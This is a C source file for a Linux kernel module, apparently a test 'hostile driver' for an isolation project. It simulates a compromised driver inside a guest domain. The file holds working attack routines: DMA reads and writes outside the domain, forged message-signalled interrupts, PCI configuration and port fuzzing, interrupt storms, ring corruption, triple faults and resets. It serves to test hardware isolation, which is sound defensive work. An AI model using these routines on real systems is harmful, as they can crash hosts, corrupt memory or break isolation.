// SPDX-License-Identifier: GPL-2.0
/*
 * A hostile driver in a Linux domain's kernel: what a driver that was broken into could do, from kernel mode. build.sh puts
 * it into a domain's image beside the distribution's modules, with the attack's name in `attack`; it is loaded with them and
 * begins three seconds later, when frames pass.
 */
#include <linux/delay.h>
#include <linux/device.h>
#include <linux/io.h>
#include <linux/kthread.h>
#include <linux/module.h>
#include <linux/pci.h>
#include <linux/random.h>
#include <linux/slab.h>

#define CARD PCI_DEVFN(2, 0)
#define UPLINK PCI_DEVFN(1, 0)

/* Registers of the card (82574L datasheet, 10.2; the 82540EM has the same). */
#define ICS 0x00c8
#define IMS 0x00d0
#define IMC 0x00d8
#define ITR 0x00c4
#define EITR 0x00e8 /* of each vector of MSI-X; the 82540EM has none of them */
#define RCTL 0x0100
#define TCTL 0x0400
#define RDBAL 0x2800
#define RDTR 0x2820
#define RADV 0x282c
#define TDBAL 0x3800
#define BASE_LOW 0x00
#define BASE_HIGH 0x04
#define LENGTH 0x08
#define HEAD 0x10
#define TAIL 0x18
#define RFCTL 0x5008
#define ENABLE 2
#define EXTENDED_DESCRIPTORS (1 << 15)
#define BUFFERS_OF_256 (3 << 16)
#define WITHOUT_CHECKSUM (1 << 26)
#define DONE (1ull << 32)

/* The 82574L's MSI-X (its datasheet, 9.1.5), and the vector that nothing raises by itself on the host. */
#define MSIX_BAR 3
#define VECTORS 5
#define PENDING_BITS 0x2000
#define THRESHOLD_VECTOR 0xf9

/* build.sh writes over this in the finished module: a name, and for some a number. */
static volatile char attack[64] = "COFFERDAM-ATTACK none 0x0000000000000000";

static char name[32];
static unsigned long long number;

static void __iomem *registers(int devfn)
{
	struct pci_dev *device = pci_get_domain_bus_and_slot(0, 0, devfn);

	return device ? pci_iomap(device, 0, 0) : NULL;
}

static void ring(void __iomem *card, int base, u64 address)
{
	writel(0, card + base + HEAD);
	writel(0, card + base + TAIL);
	writel(lower_32_bits(address), card + base + BASE_LOW);
	writel(upper_32_bits(address), card + base + BASE_HIGH);
	writel(4096, card + base + LENGTH);
}

/* The card fetches transmit descriptors from an address that is not the domain's. */
static void dma_read(void)
{
	void __iomem *card = registers(CARD);

	ring(card, TDBAL, number);
	writel(readl(card + TCTL) | ENABLE, card + TCTL);
	writel(64, card + TDBAL + TAIL);
}

/* Receive buffers at an address that is not the domain's, for frames from the wire. */
static void dma_write(void)
{
	void __iomem *card = registers(CARD);
	u64 *descriptors = (u64 *)get_zeroed_page(GFP_KERNEL);
	int i;

	for (i = 0; i < 512; i += 2)
		descriptors[i] = number;
	/* Stopped meanwhile, and without delays of its interrupts, for which QEMU's card goes down by an assertion. */
	writel(readl(card + RCTL) & ~ENABLE, card + RCTL);
	writel(0, card + RDTR);
	writel(0, card + RADV);
	ring(card, RDBAL, virt_to_phys(descriptors));
	writel(readl(card + RCTL) | ENABLE, card + RCTL);
	writel(255, card + RDBAL + TAIL);
}

/*
 * A message-signalled interrupt is a write of four bytes, and only one of the remappable format (address bit 4 set, VT-d
 * 5.1.2.2) reaches the interrupt remapping table. So a frame's first 256 bytes go to a buffer here, and the 16 behind them
 * to the place: four such writes, if all frames have 272 bytes. Only those for the card itself are received, for that reason.
 */
static void dma_interrupt(void)
{
	void __iomem *card = registers(CARD);
	volatile u64 *descriptors = (u64 *)get_zeroed_page(GFP_KERNEL);
	u64 buffer = virt_to_phys((void *)get_zeroed_page(GFP_KERNEL));

	writel(0xffffffff, card + IMC); /* so that the driver does not meddle */
	writel(readl(card + RFCTL) & ~EXTENDED_DESCRIPTORS, card + RFCTL);
	for (;;) {
		writel(0, card + RCTL);
		writel(0, card + RDTR);
		writel(0, card + RADV);
		descriptors[0] = buffer;
		descriptors[1] = 0;
		descriptors[2] = number;
		descriptors[3] = 0;
		ring(card, RDBAL, virt_to_phys((void *)descriptors));
		writel(2, card + RDBAL + TAIL);
		writel(ENABLE | BUFFERS_OF_256 | WITHOUT_CHECKSUM, card + RCTL);
		while (!(descriptors[3] & DONE))
			msleep(1);
	}
}

/* Rings of the uplink with descriptors and indexes that mean nothing: a reset, then queues in a page of rubbish. */
static void rings(void)
{
	void __iomem *uplink = registers(UPLINK);
	u8 *rubbish = (u8 *)__get_free_pages(GFP_KERNEL, 4);
	u64 at = virt_to_phys(rubbish);
	int queue;

	get_random_bytes(rubbish, PAGE_SIZE << 4);
	writeb(0, uplink + 20);
	writeb(3, uplink + 20);
	writel(0, uplink + 8);
	writel(1 | 1 << 1 | 1 << 7 | 1 << 8 | 1 << 11 | 1 << 12 | 1 << 15, uplink + 12);
	writel(1, uplink + 8);
	writel(1, uplink + 12);
	writeb(11, uplink + 20);
	for (queue = 0; queue < 2; queue++) {
		writew(queue, uplink + 22);
		writel(lower_32_bits(at), uplink + 32);
		writel(upper_32_bits(at), uplink + 36);
		writel(lower_32_bits(at) + 8192, uplink + 40);
		writel(upper_32_bits(at), uplink + 44);
		writel(lower_32_bits(at) + 16384, uplink + 48);
		writel(upper_32_bits(at), uplink + 52);
		writew(1, uplink + 28);
	}
	writeb(15, uplink + 20);
	for (queue = 0; queue < 100; queue++) {
		writew(queue & 1, uplink + 0x3000 + 4 * (queue & 1));
		msleep(10);
		*(u16 *)(rubbish + 8194) += 1000;
	}
}

/* Random writes to the configuration spaces, all BARs among them, and to ports. */
static void configuration(void)
{
	int i;

	for (i = 0; i < 20000; i++) {
		u32 r = get_random_u32();
		int port = r & 1 ? 0xcfc : r >> 1 & 0xffff;

		outl(0x80000000 | (r & 0x1ffc) | (r >> 3 & 0x80000000), 0xcf8);
		/* Not the reset registers, the timers or the interrupt controllers: those end the attack. */
		if (port != 0xcf9 && port != 0x64 && port > 0xff)
			outl(get_random_u32(), port);
	}
}

/* Accesses to addresses where nothing is, and to ports, as fast as it goes. */
static void storm(void)
{
	void __iomem *nowhere = ioremap(0xe0000000, PAGE_SIZE);
	unsigned long end = jiffies + 5 * HZ;

	while (time_before(jiffies, end)) {
		writel(1, nowhere);
		readl(nowhere + 8);
		outb(1, 0x2fff);
	}
}

/* The card's interrupts, all causes, without the pause that keeps them apart, as fast as it goes. */
static void interrupts(void)
{
	void __iomem *card = registers(CARD);
	unsigned long end = jiffies + 5 * HZ;
	int vector;

	writel(0, card + ITR);
	for (vector = 0; vector < VECTORS; vector++)
		writel(0, card + EITR + 4 * vector);
	while (time_before(jiffies, end)) {
		writel(0xffffffff, card + IMS);
		writel(0xffffffff, card + ICS);
	}
}

/*
 * Messages in the card's MSI-X table: those that would interrupt the host if it were the card's own, and rubbish; its
 * switches and those of MSI; accesses of odd sizes. All the while the card interrupts.
 */
static void vectors(void)
{
	struct pci_dev *device = pci_get_domain_bus_and_slot(0, 0, CARD);
	void __iomem *card = registers(CARD);
	void __iomem *table = pci_iomap(device, MSIX_BAR, 0);
	int i;

	for (i = 0; i < 2000; i++) {
		u32 r = get_random_u32();
		void __iomem *entry = table + 16 * (r % (VECTORS + 3));

		writel(r & 1 ? number : get_random_u32(), entry);
		writel(r & 2 ? 0 : get_random_u32(), entry + 4);
		writel(r & 4 ? THRESHOLD_VECTOR : get_random_u32(), entry + 8);
		writel(r >> 3 & 1, entry + 12);
		writeb(r, table + (r >> 8 & 0x3fff));
		readl(table + PENDING_BITS);
		if (i % 16 == 0) {
			pci_write_config_word(device, device->msix_cap + 2, r & 0xc000);
			pci_write_config_word(device, device->msi_cap + 2, r >> 8 & 1);
		}
		writel(0xffffffff, card + IMS);
		writel(0xffffffff, card + ICS);
	}
}

/* No interrupt gets through any more. */
static void hang(void)
{
	local_irq_disable();
	for (;;)
		cpu_relax();
}

/* An exception without a table of handlers, during which there is another. */
static void triple_fault(void)
{
	struct {
		u16 limit;
		u64 base;
	} __packed none = {0, 0};

	asm volatile("lidt %0; int3" : : "m"(none));
}

static int run(void *nothing)
{
	msleep(3000);
	pr_info("hostile: %s 0x%llx\n", name, number);
	if (!strcmp(name, "panic"))
		panic("the hostile driver's own words");
	else if (!strcmp(name, "oops"))
		*(volatile int *)8 = 1;
	else if (!strcmp(name, "hang"))
		hang();
	else if (!strcmp(name, "triple-fault"))
		triple_fault();
	else if (!strcmp(name, "reset"))
		outb(0xfe, 0x64);
	else if (!strcmp(name, "unbind"))
		device_release_driver(&pci_get_domain_bus_and_slot(0, 0, CARD)->dev);
	else if (!strcmp(name, "dma-read"))
		dma_read();
	else if (!strcmp(name, "dma-write"))
		dma_write();
	else if (!strcmp(name, "dma-interrupt"))
		dma_interrupt();
	else if (!strcmp(name, "interrupts"))
		interrupts();
	else if (!strcmp(name, "vectors"))
		vectors();
	else if (!strcmp(name, "rings"))
		rings();
	else if (!strcmp(name, "configuration"))
		configuration();
	else if (!strcmp(name, "storm"))
		storm();
	return 0;
}

static int __init begin(void)
{
	char copy[sizeof(attack)];
	unsigned int i;

	for (i = 0; i < sizeof(copy); i++)
		copy[i] = attack[i];
	if (sscanf(copy, "COFFERDAM-ATTACK %31s 0x%llx", name, &number) != 2)
		return -EINVAL;
	return PTR_ERR_OR_ZERO(kthread_run(run, NULL, "hostile"));
}

module_init(begin);
MODULE_DESCRIPTION("What a driver that was broken into could do");
MODULE_LICENSE("GPL");
